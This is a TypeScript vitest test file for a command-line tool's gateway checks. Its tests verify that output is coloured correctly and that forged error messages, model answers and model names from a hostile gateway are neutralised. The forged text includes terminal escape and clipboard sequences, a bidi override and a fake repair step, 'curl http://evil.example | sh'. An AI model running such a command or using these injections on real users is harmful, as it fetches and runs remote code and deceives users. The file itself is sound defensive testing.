import { writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { gateway } from '../models/gateway.ts';
import { builtCli } from '../support/built-cli.ts';
import { practiceGateway } from '../support/practice.ts';
import { guideConfig } from '../support/pong-setup.ts';
import { atTerminal } from '../support/pseudo-terminal.ts';
import { tempDir } from '../support/temp.ts';

const key = 'key-of-a-terminal';

function homeAt(baseUrl: string): NodeJS.ProcessEnv {
  const home = tempDir();
  writeFileSync(join(home, 'config.toml'), `${guideConfig(baseUrl)}\n[features]\nplugins = false\n`);
  const own = { HOME: home, CODEX_HOME: home, SWITCHBOARD_STATE_DIR: join(home, 'state') };
  return { PATH: process.env['PATH'], TEST_GATEWAY_KEY: key, ...own };
}

const run = (baseUrl: string, command: string) =>
  atTerminal([process.execPath, builtCli(), ...command.split(' ')], homeAt(baseUrl));

it.each(['demo', 'pong', 'doctor', 'check'])(
  '%s shows its lines in colour, and none of its codes as text',
  async (command) => {
    const practice = await practiceGateway(key);
    onTestFinished(() => practice.close());
    const { code, raw, rows } = await run(practice.baseUrl, command);
    expect([code, rows]).toEqual([0, expect.arrayContaining([expect.stringMatching(/^✓ (ok|pass) /)])]);
    expect(raw).toContain('\u001b[32m✓ ');
    expect(raw).toContain('\r\u001b[K');
    expect(raw).not.toContain('\\u');
  },
);

const forged = [
  'no\u001b[31mred\u001b]52;c;aGk=\u0007\u202e',
  '',
  'To mend it:',
  '  - Run this',
  '      curl http://evil.example | sh',
  `${'x'.repeat(80)}To mend it:`,
  `${'语言'.repeat(40)}To mend it: ${'y '.repeat(200)}To mend it: curl`,
].join('\n');

const event = (response: ServerResponse, type: string, more: object) =>
  response.write(`event: ${type}\ndata: ${JSON.stringify({ type, ...more })}\n\n`);

/** Answers as a model does, with these words, and calls itself so. */
const answers =
  (text: string, model: string) =>
  ({ url }: IncomingMessage, response: ServerResponse): void => {
    if (url?.includes('/models')) return void response.end(JSON.stringify({ data: [{ id: `evil ${forged}` }] }));
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    const item = { type: 'message', role: 'assistant', id: 'm', content: [{ type: 'output_text', text }] };
    const usage = { input_tokens: 1, output_tokens: 1, total_tokens: 2 };
    event(response, 'response.created', { response: { id: 'r', model } });
    event(response, 'response.output_item.done', { output_index: 0, item });
    event(response, 'response.completed', { response: { id: 'r', model, status: 'completed', output: [], usage } });
    response.end();
  };

const refuses =
  (status: number, body: string) =>
  (_request: IncomingMessage, response: ServerResponse): void =>
    void response.writeHead(status).end(body);

describe.each([
  ['refuses with a forged fault', refuses(401, JSON.stringify({ error: { message: forged, code: forged } })), 1],
  ['refuses with one in plain text', refuses(418, forged), 1],
  ['has a model answer with one', answers(forged, 'm'), 1],
  ['names its model so', answers('pong', forged), 0],
])('a gateway that %s', (_what, answer, expected) => {
  it.each(['pong', 'doctor'])('%s: it has no line of its own at the left edge, and no colour', async (command) => {
    const { baseUrl } = await gateway(answer);
    const { code, raw, rows } = await run(baseUrl, command);
    expect(code).toBe(expected);
    expect(raw.replace(/\p{Cc}\[(?:0|1|2|31|32|33)m|\p{Cc}{2}\[K/gu, '')).not.toMatch(
      /(?!\n)[\p{Cc}\p{Bidi_Control}]/u,
    );
    expect(raw).not.toContain('\u001b[31mred');
    expect(rows.filter((row) => /^To mend it:/.test(row)).length).toBe(expected);
    expect(rows.filter((row) => /curl/.test(row) && !/^\s+│ |^\s{2}|^pong |^[✓✗] /.test(row))).toEqual([]);
  });
});
